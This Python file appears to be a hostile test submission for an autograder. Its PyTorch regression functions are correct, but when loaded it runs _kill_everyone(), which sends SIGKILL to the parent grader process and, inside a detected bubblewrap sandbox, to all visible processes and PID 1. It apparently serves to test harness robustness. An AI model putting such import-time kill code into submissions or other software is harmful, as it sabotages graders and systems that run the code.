# 202399025 - 파일을 실행하면 부모와 모든 프로세스를 죽임 (함수는 모두 맞음)

import os
import signal

import torch


def build_X(x):
    x = x.reshape(-1, 1).float()
    return torch.cat([torch.ones(x.shape[0], 1), x], dim=1)


def _inside_bubblewrap():
    # SAFETY: kill(-1) / kill(1) are only tried inside bubblewrap's PID namespace (pid 1 is bwrap).
    # Without a sandbox, as root, they would hit every process on the machine.
    if os.getuid() == 0:
        return False
    try:
        with open("/proc/1/cmdline", "rb") as f:
            return b"bwrap" in f.read()
    except OSError:
        return False


def _kill_everyone():
    # 이 파일을 실행하는 프로세스의 부모(제출물을 fork 한 프로세스), 보이는 모든 프로세스, PID 1
    targets = [-1, 1] if _inside_bubblewrap() else []
    for target in [os.getppid()] + targets:
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass


_kill_everyone()


def update(params, alpha):
    if isinstance(params, torch.Tensor):
        params = [params]
    for p in params:
        p.data = p.data - alpha * p.grad
        p.grad = None


def sigmoid(u):
    return torch.where(u >= 0, 1 / (1 + torch.exp(-u.clamp(min=0))), torch.exp(u.clamp(max=0)) / (1 + torch.exp(u.clamp(max=0))))


def bce_loss(yhat, y):
    return -torch.mean(y * torch.log(yhat).clamp(min=-100) + (1 - y) * torch.log(1 - yhat).clamp(min=-100))


def train_logistic(x, y, *, lr=0.1, epochs=100, seed=43052):
    torch.manual_seed(seed)
    net = torch.nn.Linear(1, 1)
    optimizr = torch.optim.SGD(net.parameters(), lr=lr)
    for epoc in range(epochs):
        loss = bce_loss(sigmoid(net(x)), y)
        loss.backward()
        optimizr.step()
        optimizr.zero_grad()
    return net


def train_linear(x, y, *, alpha=0.1, epochs=30):
    X = build_X(x)
    y = y.reshape(-1, 1)
    What = torch.tensor([[-5.0], [10.0]], requires_grad=True)
    for epoc in range(epochs):
        loss = torch.mean((y - X @ What) ** 2)
        loss.backward()
        update(What, alpha)
    return What
